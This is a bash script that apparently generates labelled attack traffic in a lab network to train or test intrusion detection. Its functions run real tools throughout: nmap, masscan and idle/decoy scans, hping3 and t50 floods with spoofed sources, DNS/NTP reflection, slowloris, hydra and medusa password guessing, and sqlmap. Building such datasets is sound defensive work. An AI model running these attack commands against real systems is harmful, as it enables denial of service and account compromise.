# shellcheck shell=bash
# Attacks from outside: scans, floods, guessing, web servers searched. Each function is one run of a
# real tool with settings drawn anew: NAME HOST SERVER, both names of net.sh. What it did, when, from
# where and to whom goes to the truth file; lines with one start and scenario are one attack.
# intrusions.sh has what comes after. Sourced by scenarios.sh.
# shellcheck disable=SC2154 # addr4, addr6, server_net, users: net.sh; range_truth: scenarios.sh

# truth START LATE ATTACKER TARGET CATEGORY: a line (src/feature/truth.h) for what has just ended;
# LATE: for so many seconds more its last packets may come. $service and $scenario may be set.
truth() {
	local start=$1 end=$EPOCHREALTIME
	end=$((${end%.*} + $2)).${end#*.}
	shift 2
	echo "$start $end $* ${service:--} ${scenario:--}" >>"$range_truth"
}

# attack CATEGORY ATTACKER TARGET SECONDS HOST COMMAND...: run a command on a host for at most so
# many seconds and write the truth line. ATTACKER and TARGET are addresses; $service may be set, and
# $late: where the senders are made up, half-open connections are answered for another minute.
attack() {
	local category=$1 attacker=$2 target=$3 start=$EPOCHREALTIME
	shift 3
	on "$@"
	sleep 0.5
	truth "$start" "${late:-1}" "$attacker" "$target" "$category"
}

# strike HOST SECONDS ARGUMENT...: see strike.py.
strike() {
	local host=$1 limit=$2
	shift 2
	on "$limit" "$host" python3 -B "$range_home/strike.py" "$RANDOM" "$@"
}

# attack4, attack6 CATEGORY HOST SERVER SECONDS COMMAND...: the usual case over IPv4 or IPv6.
attack4() {
	local category=$1 host=$2 server=$3 limit=$4
	shift 4
	attack "$category" "${addr4[$host]}" "${addr4[$server]}" "$limit" "$host" "$@"
}

attack6() {
	local category=$1 host=$2 server=$3 limit=$4
	shift 4
	attack "$category" "${addr6[$host]}" "${addr6[$server]}" "$limit" "$host" "$@"
}

# ---- Reconnaissance: scans ----

# draw_ports: $ports gets nmap's choice of ports.
draw_ports() {
	case $((RANDOM % 5)) in
	0) ports=(--top-ports "$((RANDOM % 900 + 100))") ;;
	1) ports=(-p "$((RANDOM % 20 + 1))-$((RANDOM % 2000 + 200))") ;;
	2) ports=(--top-ports "$((RANDOM % 60 + 20))") ;;
	*) ports=() ;;
	esac
}

# draw_pace: $pace gets how fast.
draw_pace() {
	case $((RANDOM % 4)) in
	0) pace=(-T4) ;;
	1) pace=(--max-rate "$((RANDOM % 400 + 50))") ;;
	2) pace=(--min-rate "$((RANDOM % 2000 + 500))") ;;
	*) pace=() ;;
	esac
}

scan4() {
	local host=$1 server=$2 ports pace
	shift 2
	draw_ports
	draw_pace
	attack4 Reconnaissance "$host" "$server" 20 nmap -n "${ports[@]}" "${pace[@]}" "$@" "${addr4[$server]}"
}

scan6() {
	local host=$1 server=$2 ports pace
	shift 2
	draw_ports
	draw_pace
	attack6 Reconnaissance "$host" "$server" 20 nmap -6 -n "${ports[@]}" "${pace[@]}" "$@" "${addr6[$server]}"
}

nmap_syn() { scan4 "$1" "$2" -sS; }
nmap_syn6() { scan6 "$1" "$2" -sS -Pn; }
nmap_connect() { scan4 "$1" "$2" -sT; }
nmap_connect6() { scan6 "$1" "$2" -sT; }
hping_scan() {
	attack4 Reconnaissance "$1" "$2" 15 hping3 -n --scan "1-$((RANDOM % 1500 + 200))" -S "${addr4[$2]}"
}

# One port after the other, each connection waited for.
nc_connect() {
	local from=$((RANDOM % 100 + 1))
	attack4 Reconnaissance "$1" "$2" 15 nc -z -n -w 1 "${addr4[$2]}" "$from-$((from + RANDOM % 900 + 50))"
}

nmap_fin() { scan4 "$1" "$2" -sF; }
nmap_xmas() { scan4 "$1" "$2" -sX; }
nmap_null() { scan4 "$1" "$2" -sN; }
nmap_ack() { scan4 "$1" "$2" -sA; }

# A host behind a filter: nothing comes back.
nmap_dark() { scan4 "$1" dark -sS -Pn --max-retries 1; }

nmap_version() {
	attack4 Reconnaissance "$1" "$2" 30 nmap -n -sV --version-intensity "$((RANDOM % 8 + 1))" \
		-p 21,22,53,80,443,1883,8080,5201,25,110,143,3306 "${addr4[$2]}"
}

nmap_os() {
	attack4 Reconnaissance "$1" "$2" 30 nmap -n -O --top-ports "$((RANDOM % 300 + 20))" "${addr4[$2]}"
}

nmap_udp() {
	attack4 Reconnaissance "$1" "$2" 20 nmap -n -sU -Pn --top-ports "$((RANDOM % 80 + 20))" \
		--max-retries 1 --min-rate "$((RANDOM % 60 + 5))" "${addr4[$2]}"
}

# Slow enough to hide among other work: a probe in 0.1 to 1 s.
nmap_slow() {
	attack4 Reconnaissance "$1" "$2" 30 nmap -n -sS -Pn --top-ports 300 --max-retries 1 \
		--scan-delay "$((RANDOM % 10 * 100 + 100))ms" "${addr4[$2]}"
}

nmap_connect_slow() {
	attack4 Reconnaissance "$1" "$2" 30 nmap -n -sT -Pn -T2 --top-ports 200 "${addr4[$2]}"
}

nmap_fragments() {
	local mtus=(8 16 24 32)
	scan4 "$1" "$2" -sS -Pn --mtu "${mtus[RANDOM % 4]}"
}

# Among probes from addresses that others of the network could have.
nmap_decoy() {
	local start=$EPOCHREALTIME decoys=() n decoy ports pace
	for ((n = RANDOM % 6 + 2; n > 0; n--)); do
		decoy=${addr4[$1]%.*}.$((RANDOM % 125 + 2))
		[[ " ${addr4[*]} " == *" $decoy "* ]] || decoys+=("$decoy")
	done
	((${#decoys[@]} > 0)) || return
	draw_ports
	draw_pace
	on 15 "$1" nmap -n -sS -Pn "${ports[@]}" "${pace[@]}" -D "$(IFS=, && echo "${decoys[*]},ME")" "${addr4[$2]}"
	sleep 0.5
	for decoy in "${addr4[$1]}" "${decoys[@]}"; do
		truth "$start" 5 "$decoy" "${addr4[$2]}" Reconnaissance
	done
}

# Spread over several addresses: each looks at some of the ports.
nmap_spread() {
	local start=$EPOCHREALTIME borrowed=() address first=1 each=$((RANDOM % 120 + 20)) jobs=()
	borrow "$1" $((RANDOM % 8 + 4)) 4
	for address in "${borrowed[@]}"; do
		on 20 "$1" nmap -n -sS -Pn -S "$address" -e eth0 -p "$first-$((first + each - 1))" \
			--max-rate "$((RANDOM % 60 + 5))" "${addr4[$2]}" &
		jobs+=($!)
		first=$((first + each))
	done
	wait "${jobs[@]}"
	sleep 0.5
	return_borrowed "$1"
	for address in "${borrowed[@]}"; do
		truth "$start" 1 "$address" "${addr4[$2]}" Reconnaissance
	done
}

# The zombie is another server; it asks, and the target answers it, where the gateway does not see.
idle_scan() {
	local start=$EPOCHREALTIME zombie=h1 ports
	[[ $1 != h1 ]] || zombie=h2
	mapfile -t ports < <(shuf -i 1-1000 -n "$((RANDOM % 150 + 30))")
	on 25 "$1" python3 -B "$range_home/forge.py" idle "${addr4[$zombie]}" "${addr4[$2]}" \
		"$((RANDOM % 20 + 4))" "${ports[@]}"
	sleep 0.5
	truth "$start" 1 "${addr4[$1]}" "${addr4[$zombie]}" Reconnaissance
	truth "$start" 1 "${addr4[$zombie]}" "${addr4[$2]}" Reconnaissance
}

# attack_net CATEGORY HOST COMMAND...: one on the servers' whole network; the gateway answers, some
# seconds later, for those that are not there.
attack_net() {
	local category=$1 host=$2 start=$EPOCHREALTIME name
	shift 2
	on 20 "$host" "$@"
	sleep 0.5
	truth "$start" 1 "${addr4[$host]}" "$server_net" "$category"
	for name in gw0 gw1 gw2; do
		truth "$start" 4 "${addr4[$host]}" "${addr4[$name]}" "$category"
	done
}

# sweep HOST NMAP-OPTION...: over the servers' whole network.
sweep() {
	local host=$1
	shift
	attack_net Reconnaissance "$host" nmap -n --max-retries 1 --min-rate "$((RANDOM % 300 + 30))" "$@" "$server_net"
}

sweep_ping() { sweep "$1" -sn -PE; }
sweep_tcp() { sweep "$1" -sn "-PS$((RANDOM % 2 ? 443 : 22))"; }
sweep_ack() { sweep "$1" -sn -PA80; }
sweep_port() {
	local ports=(22 80 445 3389 23 8080)
	sweep "$1" -sS -Pn -p "${ports[RANDOM % 6]}"
}
sweep_udp() { sweep "$1" -sU -Pn -p "$((RANDOM % 2 ? 161 : 53))"; }

sweep_slow() {
	local ports=(22 80 445 3389 23 8080)
	attack_net Reconnaissance "$1" nmap -n -sS -Pn --max-retries 0 -p "${ports[RANDOM % 6]}" \
		--max-rate "$((RANDOM % 5 + 1))" "$server_net"
}

sweep_fping() {
	attack_net Reconnaissance "$1" fping -q -r 0 -i "$((RANDOM % 30 + 2))" -g "$server_net"
}

sweep_zmap() {
	local ports=(22 80 443 3389 23)
	attack_net Reconnaissance "$1" zmap -q -i eth0 -p "${ports[RANDOM % 5]}" -r "$((RANDOM % 300 + 20))" \
		-c 1 -b /dev/null -o /dev/null --disable-syslog \
		-G "$(inside gateway cat /sys/class/net/lan/address)" "$server_net"
}

# Neighbours, by ARP.
sweep_arp() {
	local net=${addr4[$1]%.*}.0/24
	service=arp attack Reconnaissance "${addr4[$1]}" "$net" 15 "$1" nmap -n -sn -PR \
		--min-rate "$((RANDOM % 300 + 20))" "$net"
}

arp_scan() {
	local net=${addr4[$1]%.*}.0/24
	service=arp attack Reconnaissance "${addr4[$1]}" "$net" 15 "$1" arp-scan -q -I eth0 \
		-i "$((RANDOM % 50 + 3))" "$net"
}

# Names guessed.
names_fierce() {
	local names
	names=$range_dir/names-$1-$RANDOM
	{
		seq -f 'host%.0f' $((RANDOM % 60))
		shuf -n "$((RANDOM % 150 + 50))" "$range_dir/words"
	} | shuf >"$names"
	attack4 Reconnaissance "$1" "$2" 20 fierce --domain example --dns-servers "${addr4[$2]}" \
		--subdomain-file "$names"
}

names_nmap() {
	attack4 Reconnaissance "$1" "$2" 20 nmap --dns-servers "${addr4[$2]}" --script dns-brute \
		--script-args "dns-brute.domain=example,dns-brute.threads=$((RANDOM % 8 + 1))"
}

masscan_ports() {
	attack4 Reconnaissance "$1" "$2" 20 masscan "${addr4[$2]}" \
		-p "1-$((RANDOM % 2000 + 500))" --rate "$((RANDOM % 900 + 100))" --wait 1
}

masscan_net() {
	attack_net Reconnaissance "$1" masscan "$server_net" \
		-p 22,80,443,3389 --rate "$((RANDOM % 400 + 100))" --wait 1
}

# ---- DoS: floods ----

# flood HOST SERVER ATTACKER HPING-OPTION...: for 2 to 6 s, 300 to 5000 packets a second.
flood() {
	local host=$1 server=$2 attacker=$3
	shift 3
	attack DoS "$attacker" "${addr4[$server]}" "$((RANDOM % 5 + 2))" "$host" \
		hping3 -q -n -i "u$((RANDOM % 3000 + 200))" "$@" "${addr4[$server]}"
}

# draw_open: $port gets one that is served.
draw_open() {
	local open=(80 443 22 21 1883 8080)
	port=${open[RANDOM % 6]}
}

flood_syn() {
	local port
	draw_open
	flood "$1" "$2" "${addr4[$1]}" -S -p "$port"
}

# From an address of the attacker's network that nobody has: no answer comes to the SYN-ACK.
flood_syn_spoofed() {
	local port from="${addr4[$1]%.*}.$((RANDOM % 125 + 2))"
	draw_open
	[[ " ${addr4[*]} " != *" $from "* ]] || return
	late=70 service=tcp flood "$1" "$2" "$from" -S -p "$port" -a "$from"
}

# Each packet from another address. No benign work uses port 8080.
flood_syn_random() {
	late=70 service=tcp/8080 flood "$1" "$2" '*' -S -p 8080 --rand-source
}

# At a port that is closed, with data.
flood_syn_closed() {
	flood "$1" "$2" "${addr4[$1]}" -S -p "$((RANDOM % 1000 + 9000))" -d "$((RANDOM % 200))"
}

flood_ack() {
	local port
	draw_open
	flood "$1" "$2" "${addr4[$1]}" -A -p "$port"
}

flood_udp() {
	local ports=(53 123 5060 "$((RANDOM % 30000 + 1024))")
	flood "$1" "$2" "${addr4[$1]}" --udp -p "${ports[RANDOM % 4]}" -d "$((RANDOM % 1000 + 10))"
}

# At ever other ports.
flood_udp_ports() {
	flood "$1" "$2" "${addr4[$1]}" --udp -p "++$((RANDOM % 30000 + 1024))" -d "$((RANDOM % 1000 + 10))"
}

# From ever other addresses, at a closed port: what the target answers is of the flood, too.
flood_udp_random() {
	local start=$EPOCHREALTIME
	late=2 service=udp/9999 flood "$1" "$2" '*' --udp -p 9999 --rand-source -d "$((RANDOM % 500 + 10))"
	service=icmp truth "$start" 1 '*' "${addr4[$2]}" DoS
}

flood_icmp() {
	flood "$1" "$2" "${addr4[$1]}" --icmp -d "$((RANDOM % 1200 + 8))"
}

# ping -f: echo requests as fast as they are answered, at most 1000 a second.
flood_ping() {
	attack4 DoS "$1" "$2" "$((RANDOM % 4 + 2))" ping -n -q -i 0.001 -s "$((RANDOM % 1000 + 56))" "${addr4[$2]}"
}

flood_syn_nping() {
	local port
	draw_open
	attack4 DoS "$1" "$2" 10 nping -q -N --tcp --flags syn -p "$port" --rate "$((RANDOM % 2000 + 300))" \
		-c "$((RANDOM % 6000 + 1500))" "${addr4[$2]}"
}

# Whole connections, one after the other.
flood_connect() {
	local port
	draw_open
	attack4 DoS "$1" "$2" 8 nping -q --tcp-connect -p "$port" --rate "$((RANDOM % 600 + 200))" \
		-c "$((RANDOM % 3000 + 800))" "${addr4[$2]}"
}

flood_flags() {
	local port flags=(-F -R -FA -RA -FPU)
	draw_open
	flood "$1" "$2" "${addr4[$1]}" "${flags[RANDOM % 5]}" -p "$port"
}

# Datagrams in pieces.
flood_fragments() {
	flood "$1" "$2" "${addr4[$1]}" --udp -p "$((RANDOM % 30000 + 1024))" -f -m 512 \
		-d "$((RANDOM % 1500 + 600))"
}

# Every protocol that there is.
flood_mixed() {
	attack4 DoS "$1" "$2" 8 t50 "${addr4[$2]}" --protocol T50 --threshold "$((RANDOM % 6000 + 1500))" \
		-s "${addr4[$1]}"
}

flood_dns() {
	dns_names 200 >"$range_dir/flood-$1"
	attack4 DoS "$1" "$2" 8 dnsperf -s "${addr4[$2]}" -d "$range_dir/flood-$1" -l "$((RANDOM % 4 + 1))" \
		-c "$((RANDOM % 20 + 1))" -Q "$((RANDOM % 4000 + 800))" -t 1
}

# reflect HOST WHAT SERVICE: small requests to all servers in the name of a victim on the lan, large
# answers to it.
reflect() {
	local start=$EPOCHREALTIME other=h1 borrowed=() name service=$3 reflectors=()
	[[ $1 != h1 ]] || other=h2
	borrow "$other" 1 4
	((${#borrowed[@]})) || return
	for name in "${servers[@]}"; do
		reflectors+=("${addr4[$name]}")
	done
	on 10 "$1" python3 -B "$range_home/forge.py" "$2" "${borrowed[0]}" "$((RANDOM % 900 + 100))" \
		"$((RANDOM % 5 + 2))" "${reflectors[@]}"
	sleep 0.5
	return_borrowed "$other"
	for name in "${reflectors[@]}"; do
		truth "$start" 1 "$name" "${borrowed[0]}" DoS
	done
}

reflect_dns() { reflect "$1" dns udp/53; }
reflect_ntp() { reflect "$1" monlist udp/123; }

# ---- DoS: the web server kept busy ----

slow_http() {
	local host=$1 server=$2 seconds=$((RANDOM % 12 + 10))
	shift 2
	attack4 DoS "$host" "$server" $((seconds + 4)) slowhttptest -c "$((RANDOM % 200 + 40))" \
		-r "$((RANDOM % 60 + 10))" -i "$((RANDOM % 6 + 2))" -l "$seconds" -p 3 \
		-u "http://${addr4[$server]}/docs/1.html" "$@"
}

slow_headers() { slow_http "$1" "$2" -H -x 24; }
slow_body() { slow_http "$1" "$2" -B -s 8192 -x 10; }
slow_read() { slow_http "$1" "$2" -X -w 10 -y 60 -n 3 -z 32 -k 3; }

slow_range() { slow_http "$1" "$2" -R -a 10 -b 3000; }

slow_headers_nmap() {
	attack4 DoS "$1" "$2" 22 nmap -n -Pn -p 80 --max-parallelism "$((RANDOM % 150 + 40))" \
		--script http-slowloris --script-args \
		"http-slowloris.timelimit=$((RANDOM % 10 + 10))s,http-slowloris.send_interval=$((RANDOM % 5 + 2))" \
		"${addr4[$2]}"
}

http_flood_siege() {
	HOME=$range_dir attack4 DoS "$1" "$2" 10 siege -q -b -c "$((RANDOM % 60 + 15))" -t 2S \
		"http://${addr4[$2]}/docs/$((RANDOM % 12 + 1)).html"
}

http_flood_hey() {
	attack4 DoS "$1" "$2" 10 hey -n "$((RANDOM % 3000 + 800))" -c "$((RANDOM % 80 + 20))" \
		-disable-keepalive "http://${addr4[$2]}/part/$((RANDOM % 30 + 1)).bin"
}

# Ever other pages, with their parts.
http_flood_random() {
	local n
	for ((n = 0; n < 40; n++)); do
		echo "http://${addr4[$2]}/docs/$((RANDOM % 14 + 1)).html"
		echo "http://${addr4[$2]}/app/item/$RANDOM?page=$RANDOM"
	done >"$range_dir/pages-$1"
	HOME=$range_dir attack4 DoS "$1" "$2" 10 siege -q -b -i -c "$((RANDOM % 60 + 15))" -t 3S \
		-f "$range_dir/pages-$1"
}

http_flood_ab() {
	attack4 DoS "$1" "$2" 10 ab -q -r -n "$((RANDOM % 3000 + 800))" -c "$((RANDOM % 80 + 20))" \
		"http://${addr4[$2]}/docs/$((RANDOM % 12 + 1)).html"
}

http_flood_wrk() {
	attack4 DoS "$1" "$2" 10 wrk -t 1 -c "$((RANDOM % 80 + 20))" -d 1s -H 'Connection: close' \
		"http://${addr4[$2]}/part/$((RANDOM % 30 + 1)).bin"
}

# ---- Brute Force: passwords guessed ----

# draw_words: $words gets a file with some of the words.
draw_words() {
	words=$range_dir/words-$1-$RANDOM
	shuf -n "$((RANDOM % 100 + 30))" "$range_dir/words" >"$words"
}

# After as many attempts as sshd grants a connection, each task of hydra 9.4 waits for an answer
# that does not come, 32 s where -w does not say less.
hydra_run() {
	local host=$1 server=$2 words names=(-L "$range_dir/names") waits=(32 5 2 1)
	shift 2
	draw_words "$host"
	((RANDOM % 3)) || names=(-l "${users[RANDOM % 4]}")
	attack4 Brute_Force "$host" "$server" 35 hydra -I -q -w "${waits[RANDOM % 4]}" "${names[@]}" \
		-P "$words" "$@"
}

hydra_ssh() { hydra_run "$1" "$2" -t "$((RANDOM % 16 + 1))" "ssh://${addr4[$2]}"; }
hydra_ftp() { hydra_run "$1" "$2" -t "$((RANDOM % 15 + 1))" "ftp://${addr4[$2]}"; }
hydra_http() { hydra_run "$1" "$2" -t "$((RANDOM % 8 + 1))" "http-get://${addr4[$2]}/private/"; }

# One connection at a time, with pauses.
hydra_ssh_slow() { hydra_run "$1" "$2" -t 1 -c "$((RANDOM % 3 + 1))" "ssh://${addr4[$2]}"; }

hydra_ftp_slow() { hydra_run "$1" "$2" -t 1 -c "$((RANDOM % 3 + 1))" "ftp://${addr4[$2]}"; }
hydra_imap() { hydra_run "$1" "$2" -t "$((RANDOM % 12 + 1))" "imap://${addr4[$2]}"; }

hydra_form() {
	hydra_run "$1" "$2" -t "$((RANDOM % 8 + 1))" \
		"http-post-form://${addr4[$2]}/signin:user=^USER^&pass=^PASS^:Sorry"
}

hydra_redis() {
	local words
	draw_words "$1"
	attack4 Brute_Force "$1" "$2" 20 hydra -I -q -P "$words" -t "$((RANDOM % 8 + 1))" "redis://${addr4[$2]}"
}

# The same few passwords at every server.
spray_ssh() {
	local start=$EPOCHREALTIME name
	for name in "${servers[@]}"; do
		echo "${addr4[$name]}"
	done >"$range_dir/spray-$1"
	on 30 "$1" hydra -I -q -w 5 -L "$range_dir/names" -p "$(shuf -n 1 "$range_dir/words")" \
		-t "$((RANDOM % 3 + 1))" -T 8 -M "$range_dir/spray-$1" ssh
	sleep 0.5
	for name in "${servers[@]}"; do
		truth "$start" 1 "${addr4[$1]}" "${addr4[$name]}" Brute_Force
	done
}

# try_curl HOST URL N PAUSE [ADDRESS...]: N wrong passwords, from the addresses in turn.
try_curl() {
	local host=$1 url=$2 n=$3 pause=$4 from=()
	shift 4
	for (( ; n > 0; n--)); do
		(($# == 0)) || from=(--interface "${@:n % $# + 1:1}")
		fetch 8 "$host" "${from[@]}" -u "$(shuf -n 1 "$range_dir/names"):$(shuf -n 1 "$range_dir/words")" "$url"
		rest "$pause" "$((pause + 10))" || return
	done
}

# A password every one to three seconds.
imap_slow() {
	local start=$EPOCHREALTIME
	try_curl "$1" "imap://${addr4[$2]}/" $((RANDOM % 8 + 8)) $((RANDOM % 15 + 5))
	truth "$start" 1 "${addr4[$1]}" "${addr4[$2]}" Brute_Force
}

# From many addresses, a few from each.
ftp_spread() {
	local start=$EPOCHREALTIME borrowed=() jobs=() n address
	borrow "$1" $((RANDOM % 10 + 6)) 4
	for n in 1 2 3; do
		try_curl "$1" "ftp://${addr4[$2]}/" $((RANDOM % 8 + 6)) 0 "${borrowed[@]}" &
		jobs+=($!)
	done
	wait "${jobs[@]}"
	sleep 0.5
	return_borrowed "$1"
	for address in "${borrowed[@]}"; do
		truth "$start" 1 "$address" "${addr4[$2]}" Brute_Force
	done
}

patator_run() {
	local host=$1 server=$2 module=$3 words
	shift 3
	draw_words "$host"
	attack4 Brute_Force "$host" "$server" 35 patator "$module" "$@" 0="$range_dir/names" 1="$words" \
		-t "$((RANDOM % 8 + 1))" --max-retries 1
}

patator_ssh() { patator_run "$1" "$2" ssh_login "host=${addr4[$2]}" user=FILE0 password=FILE1; }

patator_form() {
	patator_run "$1" "$2" http_fuzz "url=http://${addr4[$2]}/signin" method=POST \
		'body=user=FILE0&pass=FILE1' "resolve=www.example:${addr4[$2]}"
}

# nmap_brute HOST SERVER PORT SCRIPT [ARGUMENT]
nmap_brute() {
	local words
	draw_words "$1"
	attack4 Brute_Force "$1" "$2" 20 nmap -n -Pn -p "$3" --script "$4" --script-args \
		"userdb=$range_dir/names,passdb=$words,brute.threads=$((RANDOM % 6 + 1)),brute.firstonly=0${5-}" \
		"${addr4[$2]}"
}

nmap_http() { nmap_brute "$1" "$2" 80 http-brute ,http-brute.path=/private/; }
nmap_imap() { nmap_brute "$1" "$2" 143 imap-brute; }
nmap_redis() { nmap_brute "$1" "$2" 6379 redis-brute; }

# Communities of SNMP.
snmp_names() {
	local words
	draw_words "$1"
	attack4 Brute_Force "$1" "$2" 20 onesixtyone -q -c "$words" -w "$((RANDOM % 100 + 5))" "${addr4[$2]}"
}

medusa_run() {
	local words
	draw_words "$1"
	attack4 Brute_Force "$1" "$2" 25 medusa -b -h "${addr4[$2]}" -U "$range_dir/names" -P "$words" \
		-t "$((RANDOM % 6 + 1))" -M "${@:3}"
}

medusa_ssh() { medusa_run "$1" "$2" ssh; }
medusa_ftp() { medusa_run "$1" "$2" ftp; }
medusa_http() { medusa_run "$1" "$2" http -m DIR:/private/; }

ncrack_ssh() {
	local words
	draw_words "$1"
	attack4 Brute_Force "$1" "$2" 25 ncrack -p 22 --connection-limit "$((RANDOM % 8 + 2))" \
		-U "$range_dir/names" -P "$words" "${addr4[$2]}"
}

# ---- Analysis: web sites searched for what is not linked ----

dirb_list=/usr/share/dirb/wordlists

# Over a few connections, or one for each request.
dirs_gobuster() {
	local lists=(small common catala) close=()
	((RANDOM % 2)) || close=(-H 'Connection: close')
	attack4 Analysis "$1" "$2" 20 gobuster dir -q --no-error -t "$((RANDOM % 10 + 1))" \
		--delay "$((RANDOM % 3 * RANDOM % 60))ms" "${close[@]}" \
		-u "http://${addr4[$2]}/" -w "$dirb_list/${lists[RANDOM % 3]}.txt"
}

dirs_dirb() {
	attack4 Analysis "$1" "$2" 20 dirb "http://${addr4[$2]}/" "$dirb_list/small.txt" -S -r \
		-z "$((RANDOM % 20))"
}

dirs_ffuf() {
	attack4 Analysis "$1" "$2" 20 ffuf -s -t "$((RANDOM % 10 + 1))" -p "0.0$((RANDOM % 9))" \
		-u "http://${addr4[$2]}/FUZZ" -w "$dirb_list/small.txt"
}

dirs_wfuzz() {
	attack4 Analysis "$1" "$2" 20 wfuzz -t "$((RANDOM % 10 + 1))" -s "0.0$((RANDOM % 9))" --hc 404 \
		-w "$dirb_list/common.txt" "http://${addr4[$2]}/FUZZ"
}

params_wfuzz() {
	attack4 Analysis "$1" "$2" 20 wfuzz -t "$((RANDOM % 10 + 1))" -s "0.0$((RANDOM % 9))" --hc 404 \
		-w "$dirb_list/common.txt" "http://${addr4[$2]}/shop?FUZZ=$((RANDOM % 99))"
}

params_ffuf() {
	attack4 Analysis "$1" "$2" 20 ffuf -s -t "$((RANDOM % 10 + 1))" -p "0.0$((RANDOM % 9))" \
		-u "http://${addr4[$2]}/app/item?FUZZ=$((RANDOM % 99))" -w "$dirb_list/common.txt"
}

sql_injection() {
	attack4 Analysis "$1" "$2" 25 sqlmap -u "http://${addr4[$2]}/shop?id=$((RANDOM % 99))&sort=name" \
		--batch --disable-coloring --flush-session --output-dir="$range_dir/sqlmap-$1" \
		--level "$((RANDOM % 4 + 1))" --risk "$((RANDOM % 3 + 1))" --threads "$((RANDOM % 5 + 1))"
}

web_what() {
	local at=${addr4[$2]}
	attack4 Analysis "$1" "$2" 20 whatweb -q -a "$((RANDOM % 2 + 3))" -t "$((RANDOM % 8 + 1))" \
		"http://$at/" "https://$at/" "http://$at:8080/" "http://$at/docs/1.html"
}

# nmap's scripts for web servers: known paths, methods, headers, weak spots.
web_scripts() {
	attack4 Analysis "$1" "$2" 30 nmap -n -Pn -p 80,443,8080 \
		--script 'http-enum,http-methods,http-headers,http-vuln*,ssl-enum-ciphers' "${addr4[$2]}"
}
